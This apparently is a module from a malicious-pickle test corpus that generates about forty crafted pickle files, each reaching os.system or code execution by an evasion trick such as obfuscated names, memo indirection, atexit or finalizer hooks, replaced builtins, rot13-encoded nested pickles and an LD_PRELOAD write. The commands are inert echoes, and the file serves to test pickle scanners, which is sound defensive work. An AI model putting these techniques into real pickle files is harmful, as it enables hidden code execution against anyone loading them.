"""Streams that reach ``os.system`` on ways of their own."""

from __future__ import annotations

from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import (
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    C,
    Encoder,
    Raw,
    S,
    bin_get,
    bin_put,
    bytearray8,
    frame,
    global_,
    inst,
    int_,
    proto,
    put,
    short_bytes,
    short_unicode,
    stack_global,
    text_unicode,
)
from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.payloads import COMMAND

_PLAIN = Encoder(4, memo=False)
_RUN = short_unicode(COMMAND) + TUPLE1 + REDUCE


def _e(value: object) -> bytes:
    return _PLAIN.encode(value)


def _streams() -> dict[str, bytes]:
    sums = [111, 115]
    name = C(C("builtins:getattr", "", "join"), C("builtins:map", S("builtins:chr"), sums))
    reverse = C("builtins:str", C("builtins:bytes", C("builtins:reversed", b"metsys")), "ascii")
    by_hand = Raw(_e(C("builtins:getattr", C("builtins:__import__", name), reverse)))
    lookup = C("operator:getitem", C("builtins:vars", C("builtins:__import__", "os")), "system")
    chain = C("functools:reduce", S("builtins:getattr"), ["modules", "get"], C("builtins:__import__", "sys"))
    scanner = C(C("builtins:getattr", C("builtins:__import__", "os"), C("operator:concat", "sys", "tem")), COMMAND)
    keyed = _e(C("builtins:getattr", S("builtins:object"), "__subclasses__")) + EMPTY_TUPLE + REDUCE
    memo = (
        short_unicode("os") + bin_put(200) + POP + short_unicode("system") + put(7) + POP + bin_get(200) + b"g7\n" + STACK_GLOBAL
    )
    built = proto(4) + global_("functools", "partial") + EMPTY_TUPLE + b"\x81" + MARK + stack_global("os", "system")
    built += _e((COMMAND,)) + EMPTY_DICT + NONE + TUPLE + BUILD + EMPTY_TUPLE + REDUCE + STOP
    return {
        "names-by-hand": proto(4) + _e(by_hand) + _RUN + STOP,
        "vars": proto(4) + _e(lookup) + _RUN + STOP,
        "reduce-getattr": proto(4) + _e(C(C("builtins:getattr", C(chain, "os"), "system"), COMMAND)) + STOP,
        "concatenated": proto(4) + _e(scanner) + STOP,
        "subclasses": proto(4) + keyed + STOP,
        "memo-both": proto(4) + memo + _RUN + STOP,
        "partial-state": built,
        "methodcaller": proto(4) + _e(C(C("operator:methodcaller", "system", COMMAND), C("builtins:__import__", "os"))) + STOP,
        "attrgetter-dotted": proto(4)
        + _e(C(C(C("operator:attrgetter", "path.os.system"), C("builtins:__import__", "os")), COMMAND))
        + STOP,
        "deque-map": proto(4) + _e(C("collections:deque", C("builtins:map", S("os:system"), [COMMAND]))) + STOP,
        "dict-fromkeys": proto(4) + _e(C("builtins:dict.fromkeys", C("builtins:map", S("os:system"), [COMMAND]))) + STOP,
        "unpacked-by-sum": proto(4) + _e(C("builtins:sum", C("builtins:map", S("os:system"), [COMMAND]))) + STOP,
        "defaultdict": proto(4)
        + _e(
            C(
                C(
                    "builtins:getattr",
                    C("collections:defaultdict", C("functools:partial", S("os:system"), COMMAND)),
                    "__getitem__",
                ),
                1,
            )
        )
        + STOP,
        "iter-callable": proto(4)
        + _e(C("builtins:next", C("builtins:iter", C("functools:partial", S("os:system"), COMMAND), 1)))
        + STOP,
        "extend-list": proto(4) + EMPTY_LIST + _e(C("builtins:map", S("os:system"), [COMMAND])) + b"a" + STOP,
        "key-function": proto(4) + _e(C("heapq:nlargest", 1, [COMMAND], S("os:system"))) + STOP,
        "groupby": proto(4) + _e(C("builtins:list", C("itertools:groupby", [COMMAND], S("os:system")))) + STOP,
        "min-key": proto(4) + _e(C("builtins:min", [COMMAND], S("os:system"))) + STOP,
        "property-get": proto(4)
        + _e(C(C("builtins:getattr", C("builtins:property", S("os:system")), "__get__"), COMMAND))
        + STOP,
        "type-with-del": proto(4) + _e(C(C("builtins:type", "T", (), {"__init__": S("os:system")}))) + STOP,
        "exit-stack": proto(4)
        + _e(C(C("builtins:getattr", C("contextlib:ExitStack"), "callback"), S("os:system"), COMMAND))
        + STOP,
        "finalize": proto(4) + _e(C("weakref:finalize", S("builtins:print"), S("os:system"), COMMAND)) + STOP,
        "atexit": proto(4) + _e(C("atexit:register", S("os:system"), COMMAND)) + STOP,
        "sys-hook": proto(4) + _e(C("builtins:setattr", C("builtins:__import__", "sys"), "displayhook", S("os:system"))) + STOP,
        "environ-item": proto(4)
        + stack_global("os", "environ")
        + short_unicode("LD_PRELOAD")
        + short_unicode("/tmp/x.so")
        + SETITEM
        + STOP,
        "path-append": proto(4) + stack_global("sys", "path") + short_unicode("/tmp/toadstone") + b"a" + STOP,
        "modules-item": proto(4)
        + stack_global("sys", "modules")
        + short_unicode("json")
        + _e(C("builtins:__import__", "os"))
        + SETITEM
        + STOP,
        "builtins-replaced": proto(4)
        + global_("builtins", "__dict__")
        + short_unicode("print")
        + stack_global("os", "system")
        + SETITEM
        + STOP,
        "codecs-decode": proto(4) + _e(C("pickle:loads", C("codecs:decode", "pbf\nflfgrz\n(F'rpub vareg'\ngE.", "rot13"))) + STOP,
        "bytearray-stage": proto(5)
        + _e(S("pickle:loads"))
        + bytearray8(b"cos\nsystem\n(S'echo inert'\ntR.")
        + TUPLE1
        + REDUCE
        + STOP,
        "inst-inside": MARK + text_unicode(COMMAND) + inst("os", "system") + STOP,
        "frame-inside-frame": proto(4) + frame(stack_global("os", "system") + frame(_RUN) + STOP),
        "dup-callable": proto(4) + stack_global("os", "system") + DUP + _RUN + TUPLE2 + STOP,
        "long-name": proto(4) + short_unicode("os") + MEMOIZE + b"X\x06\x00\x00\x00system" + STACK_GLOBAL + _RUN + STOP,
        "integer-keys": proto(4) + EMPTY_DICT + int_(1) + stack_global("os", "system") + _RUN + SETITEM + STOP,
        "bytes-name": proto(4)
        + _e(
            C(
                "builtins:getattr",
                C("builtins:__import__", C("builtins:str", b"os", "ascii")),
                C("builtins:str", b"system", "ascii"),
            )
        )
        + _RUN
        + STOP,
        "short-bytes-exec": proto(4)
        + _e(S("builtins:exec"))
        + short_bytes(b"import os;os.system('echo inert')")
        + TUPLE1
        + REDUCE
        + STOP,
    }


def cases() -> Iterator[Case]:
    """One file each."""
    for name, data in _streams().items():
        yield Case(f"opcodes/{name}.pkl", data, f"tricks-opcode-{name}")
